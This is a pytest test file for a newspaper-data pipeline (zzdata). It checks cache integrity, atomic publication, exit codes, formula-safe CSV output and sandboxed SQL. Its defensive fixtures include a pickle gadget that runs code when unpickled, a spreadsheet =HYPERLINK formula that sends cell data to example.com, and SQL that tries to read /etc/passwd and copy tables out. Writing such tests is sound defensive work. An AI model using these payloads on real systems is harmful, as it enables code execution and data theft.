# Issue #17, the build side: nothing lost, nothing trusted blindly.  Each
# test reproduces a finding of the issue first (a mistyped source erasing
# the last build, cache entries unpickled blindly, a transient read failure
# cached for good, tables published file by file, workers outliving the
# build, environment errors as tracebacks, formula cells in CSV, SQL reading
# any file), then checks what zzdata does now.
#
# Where the cases come from: the pages are the sample page
# (data/zhuzhou-daily-2021-04.txt) and made-up variants of it (the kill
# test uses benchmarks/corpus.py's varied copies); its 7 articles and
# 全市共储备编织袋63.6万条 (line 133) are read from the page.  The
# =HYPERLINK page, the planted pickle, the flipped bytes, the locks, the
# full disk and the read-only folder are made up here.
#
# The other findings of #17 are reproduced beside the code they concern:
# encodings, same-named files and manifest rows in tests/test_faults_input.py
# (items 7-9, 12), formula cells opened with openpyxl in tests/test_widgets.py
# and tests/test_cells.py (item 10), the Host header and the kernel cap in
# tests/test_dashboard.py (item 11).
import csv
import errno
import os
import pickle
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import zzdata as zz
from zzdata import engine, parts, store
from zzdata.cli import main
from zzdata.pipeline import CODEC, build_parts, process_task

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "data" / "zhuzhou-daily-2021-04.txt"
TEXT = SAMPLE.read_text(encoding="utf-8")
BAGS = "select sum(value) as total from flood_prep where indicator = '编织袋'"


def _variant(k: int) -> str:
    """The sample with its stockpile figure changed (made up): 63.6万条 → 6k.6万条."""
    return TEXT.replace("63.6万条", f"6{k}.6万条")


def corpus(folder: Path, n: int = 2) -> Path:
    folder.mkdir(parents=True)
    for k in range(n):
        (folder / f"page{k}.txt").write_text(_variant(k), encoding="utf-8")
    return folder


def snapshot(out: Path) -> dict[str, bytes]:
    """Every file of a build folder (tables, pointer, versions, cache)."""
    return {p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}


def csvs(out: Path) -> dict[str, bytes]:
    return {name: (out / f"{name}.csv").read_bytes() for name in zz.Tables.names()}


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """A build folder of two variant pages (exit 0), to copy from."""
    base = tmp_path_factory.mktemp("faults")
    pages = corpus(base / "pages")
    out = base / "out"
    assert main(["build", str(pages), "--out", str(out), "--jobs", "1"]) == 0
    return pages, out


@pytest.fixture()
def fresh(built, tmp_path):
    """A copy of the built folder and its pages, for one test to change."""
    pages, out = built
    shutil.copytree(pages, tmp_path / "pages")
    shutil.copytree(out, tmp_path / "out")
    return tmp_path / "pages", tmp_path / "out"


# -- 1. a build never makes things worse -------------------------------------


def test_a_mistyped_source_writes_nothing_and_keeps_tables_and_cache(fresh, capsys):
    pages, out = fresh
    before = snapshot(out)
    assert main(["build", str(pages.parent / "pagez"), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "pagez: no such file or folder" in err and "nothing built" in err
    assert snapshot(out) == before


def test_a_folder_without_page_files_writes_nothing(fresh, tmp_path, capsys):
    _, out = fresh
    empty = tmp_path / "no-pages"
    empty.mkdir()
    (empty / "notes.csv").write_text("a,b\n", encoding="utf-8")
    before = snapshot(out)
    assert main(["build", str(empty), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "no page files" in err and "*.txt" in err
    assert snapshot(out) == before


def test_a_build_in_which_every_file_failed_writes_nothing(fresh, tmp_path, capsys):
    _, out = fresh
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "empty.txt").write_bytes(b"")
    (bad / "scan.txt").write_bytes(b"%PDF-1.4 not a page")
    before = snapshot(out)
    assert main(["build", str(bad), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "every file had problems; nothing published" in err
    assert "empty.txt" in err and "scan.txt" in err  # each problem still named
    after = snapshot(out)
    assert {k: after[k] for k in before} == before  # tables, pointer, versions and cache entries all kept
    assert all(k.startswith(".cache/") for k in set(after) - set(before))  # only the two files' parts were cached
    assert len(zz.load(out).articles) == 14  # the two pages of the last build, 7 articles each


def test_load_and_read_of_a_missing_path_raise(tmp_path):
    with pytest.raises(FileNotFoundError, match="nosuch"):
        zz.load(tmp_path / "nosuch")
    with pytest.raises(FileNotFoundError):
        zz.Tables.read(tmp_path / "nosuch")
    with pytest.raises(FileNotFoundError, match="no page files"):
        zz.load(tmp_path)


# -- 2. a cache that verifies itself and runs no code -------------------------


def test_flipped_cache_bytes_are_rejected_and_the_tables_stay_right(fresh, capsys):
    pages, out = fresh
    clean = csvs(out)
    entries = sorted((out / ".cache").glob("*.part"))
    assert len(entries) == 2
    for entry in entries:
        data = bytearray(entry.read_bytes())
        at = data.index(".6万条".encode()) - 1  # the stockpile figure in the rows: 60.6万条 or 61.6万条
        data[at] ^= 0x01  # 60.6 → 61.6, 61.6 → 60.6: a plausible, wrong figure
        entry.write_bytes(bytes(data))
    for index in (out / "versions").glob("*/_parts.jsonl"):  # else the unchanged files' counts come from there (splice.py), not the cache
        index.unlink()
    assert main(["build", str(pages), "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "cache entries rejected: 2" in printed and "files processed: 2, taken from the cache: 0" in printed
    assert csvs(out) == clean
    assert zz.query(BAGS, out)["total"].tolist() == [606000 + 616000]


def test_a_planted_pickle_is_never_run(fresh, tmp_path, capsys):
    pages, out = fresh
    marker = tmp_path / "ran"
    bomb = pickle.dumps(_Bomb(str(marker)))
    entries = sorted((out / ".cache").glob("*.part"))
    for entry in entries:
        entry.write_bytes(bomb)  # in place of a good entry
    (out / ".cache" / f"{entries[0].name[:-5]}.rows.pickle").write_bytes(bomb)  # as earlier versions named them
    clean = csvs(out)
    for index in (out / "versions").glob("*/_parts.jsonl"):  # else nothing is read from the cache (splice.py)
        index.unlink()
    assert main(["build", str(pages), "--out", str(out)]) == 0
    assert not marker.exists()
    assert "cache entries rejected: 2" in capsys.readouterr().out
    assert csvs(out) == clean
    assert not list((out / ".cache").glob("*.pickle"))  # removed, never read


class _Bomb:
    """Unpickling this writes a file: what a planted cache entry could do."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (Path(self.path).write_text, ("pwned",))


@pytest.fixture(scope="module")
def sample_part():
    return process_task(engine.Task("s.txt", "", SAMPLE.read_bytes()))


def test_a_part_goes_through_the_cache_unchanged(sample_part, tmp_path):
    cache = engine.Cache(tmp_path, CODEC)
    cache.put("k", sample_part)
    assert cache.get("k") == sample_part and cache.rejected == 0


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_any_flipped_bit_of_an_entry_is_rejected(sample_part, tmp_path_factory, data):
    # Property: a single bit flipped anywhere (the header, the digest, the
    # rows) never gives a part back: every byte is covered by the digest.
    folder = tmp_path_factory.mktemp("flip")
    cache = engine.Cache(folder, CODEC)
    cache.put("k", sample_part)
    entry = bytearray((folder / "k.part").read_bytes())
    at = data.draw(st.integers(0, len(entry) - 1))
    entry[at] ^= 1 << data.draw(st.integers(0, 7))
    (folder / "k.part").write_bytes(bytes(entry))
    assert cache.get("k") is None and cache.rejected == 1


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300) | st.text(max_size=300).map(str.encode) | st.lists(st.text(max_size=40), max_size=4).map(
    lambda cells: ("\n".join(['{"source": "a", "date": null, "paper": "", "summary": {}}', *cells])).encode()))
def test_whatever_bytes_an_entry_holds_reading_it_never_raises(tmp_path_factory, payload):
    # Property (made-up bytes, with a right digest, so the decoder itself is
    # tried): an entry is a part or rejected, never an exception.
    folder = tmp_path_factory.mktemp("odd")
    (folder / "k.part").write_bytes(engine.Cache.MAGIC + engine._digest(payload).encode() + b"\n" + payload)
    cache = engine.Cache(folder, CODEC)
    got = cache.get("k")
    assert (got is None and cache.rejected == 1) or isinstance(got, parts.FilePart)


def test_an_entry_with_a_right_digest_but_wrong_types_is_rejected(sample_part, tmp_path):
    import json

    lines = parts.encode_part(sample_part).split(b"\n")
    head = json.loads(lines[0])
    head["summary"]["files"] = "1"  # a string where a count belongs
    forged = b"\n".join([json.dumps(head).encode(), *lines[1:]])
    (tmp_path / "k.part").write_bytes(engine.Cache.MAGIC + engine._digest(forged).encode() + b"\n" + forged)
    cache = engine.Cache(tmp_path, CODEC)
    assert cache.get("k") is None and cache.rejected == 1


# -- 3. transient read failures are never cached ------------------------------


def test_a_file_renamed_during_the_build_is_not_cached(tmp_path, monkeypatch, capsys):
    pages, out = corpus(tmp_path / "pages"), tmp_path / "out"
    page1 = pages / "page1.txt"
    real = engine.Task.loaded

    def renamed_meanwhile(task):  # the file goes away between the listing and the reading
        if task.source == "page1.txt":
            page1.rename(page1.with_suffix(".moved"))
        return real(task)

    monkeypatch.setattr(engine.Task, "loaded", renamed_meanwhile)
    assert main(["build", str(pages), "--out", str(out), "--jobs", "1"]) == 2
    assert "page1.txt: cannot read file" in capsys.readouterr().err
    assert len(list((out / ".cache").glob("*.part"))) == 1  # only page0's part
    monkeypatch.undo()
    page1.with_suffix(".moved").rename(page1)  # back again
    assert main(["build", str(pages), "--out", str(out), "--jobs", "1"]) == 0
    assert "files processed: 1, taken from the cache: 1" in capsys.readouterr().out
    assert sorted(set(zz.load(out).articles["source"])) == ["page0.txt", "page1.txt"]


def test_a_file_changed_during_the_build_is_not_cached(tmp_path, monkeypatch, capsys):
    pages, out = corpus(tmp_path / "pages"), tmp_path / "out"
    real = engine.Task.loaded

    def changed_meanwhile(task):  # an editor saves a correction while the build runs
        if task.source == "page1.txt":
            Path(task.path).write_text(_variant(8), encoding="utf-8")
        return real(task)

    monkeypatch.setattr(engine.Task, "loaded", changed_meanwhile)
    assert main(["build", str(pages), "--out", str(out), "--jobs", "1"]) == 0
    assert zz.query(BAGS, out)["total"].tolist() == [606000 + 686000]  # the rows are those of the bytes read
    assert len(list((out / ".cache").glob("*.part"))) == 1
    monkeypatch.undo()
    capsys.readouterr()
    assert main(["build", str(pages), "--out", str(out), "--jobs", "1"]) == 0
    assert "files processed: 1, taken from the cache: 1" in capsys.readouterr().out


# -- 4. atomic publication ------------------------------------------------------


def test_a_build_is_a_version_the_pointer_names(built):
    _, out = built
    current = store.current_folder(out)
    assert current.parent == out / "versions" and (out / "current").read_text(encoding="utf-8").strip() == current.name
    for name in zz.Tables.names():
        assert os.path.samefile(out / f"{name}.csv", current / f"{name}.csv")  # the flat CSVs are the current ones
    assert not (out / "parquet").exists() and not (out / ".lock").exists()


def _replace_calls() -> int:
    return 2 + len(zz.Tables.names())  # the version's rename, the pointer, each flat CSV


@pytest.fixture(scope="module")
def other_parts():
    """The parts of a different build: the sample alone (7 articles)."""
    return build_parts([SAMPLE])


@pytest.mark.parametrize("step", range(1, _replace_calls() + 1))
def test_a_publication_killed_at_any_rename_leaves_one_whole_build(built, other_parts, tmp_path, monkeypatch, step):
    _, template = built
    out = tmp_path / "out"
    shutil.copytree(template, out)
    old_sources = {"page0.txt", "page1.txt"}
    calls = []
    real = store._replace

    def killed(source, target):
        calls.append(target)
        if len(calls) == step:
            raise KeyboardInterrupt  # the process dies here
        real(source, target)

    monkeypatch.setattr(store, "_replace", killed)
    with pytest.raises(KeyboardInterrupt):
        store.write_parts(other_parts, out)
    monkeypatch.undo()
    published = step > 2  # the pointer was switched at the second rename
    t = zz.load(out).materialize()
    want = {SAMPLE.name} if published else old_sources
    for name in ("articles", "pages", "layout", "figures", "flood_prep"):
        assert set(getattr(t, name)["source"]) == want, name  # never a mix of two builds
    assert len(zz.query("select * from articles", out)) == len(t.articles)
    assert not (out / ".lock").exists() and not list((out / "versions").glob("*.partial"))
    assert len(list((out / "versions").iterdir())) == 1 + published
    store.write_parts(other_parts, out)  # the next build puts the flat CSVs right
    current = store.current_folder(out)
    assert all(os.path.samefile(out / f"{n}.csv", current / f"{n}.csv") for n in zz.Tables.names())


def test_versions_beyond_the_last_two_are_pruned_and_a_reader_keeps_its_version(built, other_parts, tmp_path):
    _, template = built
    out = tmp_path / "out"
    shutil.copytree(template, out)
    first = store.current_folder(out).name
    reader = zz.Tables.read(out)  # nothing read yet: the first build's version
    store.write_parts(other_parts, out)
    assert set(reader.articles["source"]) == {"page0.txt", "page1.txt"}  # still that version, whole
    store.write_parts(other_parts, out)
    names = sorted(p.name for p in (out / "versions").iterdir())
    versions = [n for n in names if not n.startswith(".")]
    assert len(versions) == 2 and versions[-1] == store.current_folder(out).name
    assert names == [f".retired-{first}", *versions]  # renamed in one step; removed by the next build
    store.write_parts(other_parts, out)
    names = sorted(p.name for p in (out / "versions").iterdir())
    assert names[0] == f".retired-{versions[0]}" and len(names) == 3  # the one retired before is gone
    store.remove_retired(out)
    assert len(list((out / "versions").iterdir())) == 2


@pytest.mark.parametrize("pointer", ["../../elsewhere", "999999-20990101T000000Z", ""])
def test_a_pointer_naming_no_version_is_refused(fresh, capsys, pointer):
    _, out = fresh
    (out / "current").write_text(pointer + "\n", encoding="utf-8")
    with pytest.raises(FileNotFoundError, match="names no version"):
        zz.load(out)
    assert main(["query", "select count(*) from articles", "--out", str(out)]) == 2
    assert "names no version" in capsys.readouterr().err


def _sleeper() -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])


def test_a_second_build_while_one_writes_exits_3(fresh, capsys):
    import socket

    pages, out = fresh
    other = _sleeper()
    try:
        (out / ".lock").write_text(f"{other.pid} {socket.gethostname()}\n", encoding="utf-8")
        before = snapshot(out)
        assert main(["build", str(pages), "--out", str(out)]) == 3
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and f"process {other.pid}" in err and "is writing to this folder" in err
        assert snapshot(out) == before
    finally:
        other.kill()
        other.wait()


def test_the_lock_of_a_build_that_died_is_taken_over(fresh):
    import socket

    pages, out = fresh
    dead = _sleeper()
    dead.kill()
    dead.wait()
    (out / ".lock").write_text(f"{dead.pid} {socket.gethostname()}\n", encoding="utf-8")
    assert main(["build", str(pages), "--out", str(out)]) == 0
    assert not (out / ".lock").exists()


# -- 5. workers die with their parent ------------------------------------------


def _children(pid: int) -> set[int]:
    psutil = pytest.importorskip("psutil")
    try:
        return {c.pid for c in psutil.Process(pid).children(recursive=True)}
    except psutil.NoSuchProcess:
        return set()


def _running(psutil, pid: int) -> bool:
    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


@pytest.mark.skipif(os.name == "nt", reason="SIGTERM and SIGKILL are POSIX signals")
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL], ids=["SIGTERM", "SIGKILL"])
def test_pool_workers_exit_when_the_build_is_killed(tmp_path, sig):
    psutil = pytest.importorskip("psutil")
    sys.path.insert(0, str(ROOT / "benchmarks"))
    try:
        from corpus import make_corpus
    finally:
        sys.path.remove(str(ROOT / "benchmarks"))
    make_corpus(tmp_path / "corpus", 40)
    out = tmp_path / "out"
    build = subprocess.Popen(
        [sys.executable, "-m", "zzdata", "build", str(tmp_path / "corpus"), "--out", str(out), "--jobs", "2", "--no-progress"],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
    )
    workers: set[int] = set()
    deadline = time.monotonic() + 300
    while build.poll() is None and time.monotonic() < deadline:  # midway: workers running and a first part cached
        workers |= _children(build.pid)
        if len(workers) >= 2 and any((out / ".cache").glob("*.part")):
            break
        time.sleep(0.05)
    assert build.poll() is None and len(workers) >= 2, "the build ended before it could be killed"
    build.send_signal(sig)
    _, err = build.communicate(timeout=60)
    deadline = time.monotonic() + 20
    alive = workers
    while alive and time.monotonic() < deadline:
        alive = {pid for pid in workers if _running(psutil, pid)}
        time.sleep(0.1)
    assert not alive, f"workers still running after the build was killed: {alive}"
    assert not (out / "current").exists()  # nothing published
    if sig == signal.SIGTERM:
        assert build.returncode == 128 + signal.SIGTERM and not (out / ".lock").exists()
        assert "stopped by SIGTERM" in err.decode("utf-8")


# -- 6. exit codes that mean one thing -----------------------------------------


def test_out_naming_a_file_is_one_line_and_exit_3(tmp_path, capsys):
    target = tmp_path / "out.txt"
    target.write_text("not a folder", encoding="utf-8")
    assert main(["build", str(SAMPLE), "--out", str(target)]) == 3
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "is a file, not a folder" in err and "Traceback" not in err


def test_a_read_only_out_is_one_line_and_exit_3(fresh, monkeypatch, capsys):
    pages, out = fresh

    def denied(lock):
        raise PermissionError(errno.EACCES, "Permission denied", str(lock))

    monkeypatch.setattr(store, "_take", denied)  # as os.open of the lock fails in a read-only folder
    assert main(["build", str(pages), "--out", str(out)]) == 3
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Permission denied" in err and ".lock" in err


@pytest.mark.skipif(os.name == "nt" or os.geteuid() == 0, reason="needs POSIX permissions, which root ignores")
def test_a_really_read_only_out_is_exit_3(fresh, capsys):
    pages, out = fresh
    out.chmod(0o555)
    try:
        assert main(["build", str(pages), "--out", str(out)]) == 3
        assert "Permission denied" in capsys.readouterr().err
    finally:
        out.chmod(0o755)


def _disk_full(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device")


def test_a_full_disk_is_one_line_exit_3_and_leaves_no_partial_files(fresh, monkeypatch, capsys):
    import pyarrow.parquet as pq

    pages, out = fresh
    (pages / "page0.txt").write_text(_variant(5), encoding="utf-8")  # a partition to write again
    tables_before = csvs(out)
    versions_before = sorted(p.name for p in (out / "versions").iterdir())
    monkeypatch.setattr(pq, "write_table", _disk_full)
    assert main(["build", str(pages), "--out", str(out), "--jobs", "1"]) == 3
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "No space left on device" in err and "Traceback" not in err
    assert sorted(p.name for p in (out / "versions").iterdir()) == versions_before  # the new version removed
    assert not [p for p in out.rglob("*") if p.name.endswith(".partial") or p.name == ".lock"]
    assert csvs(out) == tables_before
    with pytest.raises(OSError):
        main(["build", str(pages), "--out", str(out), "--jobs", "1", "--debug"])  # the traceback, on request


def test_jobs_that_are_no_number_say_so_and_exit_3(capsys):
    with pytest.raises(SystemExit) as stopped:
        main(["build", "data", "--out", "x", "--jobs", "abc"])
    assert stopped.value.code == 3
    assert "--jobs" in (err := capsys.readouterr().err) and "expected a whole number" in err and "'abc'" in err


def test_help_documents_the_exit_codes(capsys):
    with pytest.raises(SystemExit) as stopped:
        main(["build", "--help"])
    assert stopped.value.code == 0
    text = capsys.readouterr().out
    assert "exit status:" in text and "\n  3  the output cannot be written" in text


# -- 9. formula-safe CSV ----------------------------------------------------------

FORMULA_PAGE = (  # made up: a headline an attacker wrote as a spreadsheet formula
    '=HYPERLINK("http://example.com/?d="&A1,"点击查看")\n'
    "本报讯(记者 王小明)近日,荷塘区宋家桥街道新增防汛物资一千二百件。\n"
)


@pytest.mark.parametrize("how", ["build", "Tables.write"])
def test_formula_cells_are_quoted_in_csv_and_kept_as_printed_elsewhere(tmp_path, how):
    page = tmp_path / "pages" / "formula.txt"
    page.parent.mkdir()
    page.write_text(FORMULA_PAGE, encoding="utf-8")
    out = tmp_path / "out"
    if how == "build":
        assert main(["build", str(page.parent), "--out", str(out), "--jobs", "1"]) == 0
    else:
        zz.load(page.parent).write(out)
    with (out / "articles.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    headline = FORMULA_PAGE.splitlines()[0]
    assert [row["headline"] for row in rows] == ["'" + headline]
    for name in zz.Tables.names():  # no text cell of any CSV starts a formula
        with (out / f"{name}.csv").open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):  # (+ and - also start numbers: -3.2 stays a number)
                assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row), (name, row)
    assert zz.load(out).articles["headline"].tolist() == [headline]  # Parquet: as printed


# -- 10. SQL reads the tables and nothing else --------------------------------------


def test_a_query_cannot_read_other_files(built, tmp_path, capsys):
    import duckdb

    _, out = built
    other = tmp_path / "secret.csv"
    other.write_text("secret\n42\n", encoding="utf-8")
    for sql in (f"select * from read_csv('{other.as_posix()}')", "select * from read_csv('/etc/passwd')",
                f"copy articles to '{(tmp_path / 'leak.csv').as_posix()}'"):
        with pytest.raises(duckdb.Error, match="disabled by configuration"):
            zz.query(sql, out)
    assert not (tmp_path / "leak.csv").exists()
    with pytest.raises(duckdb.Error):
        zz.query("set enable_external_access = true", out)
    assert main(["query", f"select * from read_csv('{other.as_posix()}')", "--out", str(out)]) == 2
    assert "disabled by configuration" in capsys.readouterr().err
    assert main(["query", f"select * from read_csv('{other.as_posix()}')", "--out", str(out), "--csv", "--allow-files"]) == 0
    assert capsys.readouterr().out.split() == ["secret", "42"]
    assert zz.query(BAGS, out)["total"].tolist() == [606000 + 616000]  # the tables themselves still answer
